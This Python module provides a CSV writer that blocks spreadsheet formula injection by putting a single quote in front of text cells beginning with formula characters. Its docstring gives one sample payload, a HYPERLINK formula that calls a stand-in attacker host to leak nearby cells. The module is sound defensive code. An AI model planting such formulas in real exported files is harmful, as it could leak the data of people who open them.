"""The one CSV writer of the product: text that a spreadsheet would run as a formula is not.

A spreadsheet program opening a CSV file treats a cell that starts with `=`, `+`, `-` or
`@` (and, in some programs, a tab or carriage return before them) as a formula:
`=HYPERLINK("http://evil.example/?x")` in an organisation's name becomes a live link that
can send the neighbouring cells anywhere. As OWASP recommends, such a text is written with a
single quote in front, which spreadsheets show as text. Numbers (a negative longitude) are
written as they are: they are not text, and a spreadsheet reads them as the numbers they are.
JSON and XLSX keep every value exact (XLSX marks text cells as text instead).
"""

import csv
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """`value`, with a single quote in front if it is a text a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` whose rows have every formula-like text neutralised."""

    def __init__(self, stream: TextIO, **options):
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter(csv.DictWriter):
    """`csv.DictWriter` whose rows have every formula-like text neutralised."""

    def __init__(self, stream: TextIO, fieldnames, restval="", extrasaction="raise", **options):
        super().__init__(stream, fieldnames, restval, extrasaction, **options)
        self.writer = SafeWriter(stream, **options)


def writer(stream: TextIO, **options) -> SafeWriter:
    return SafeWriter(stream, **options)
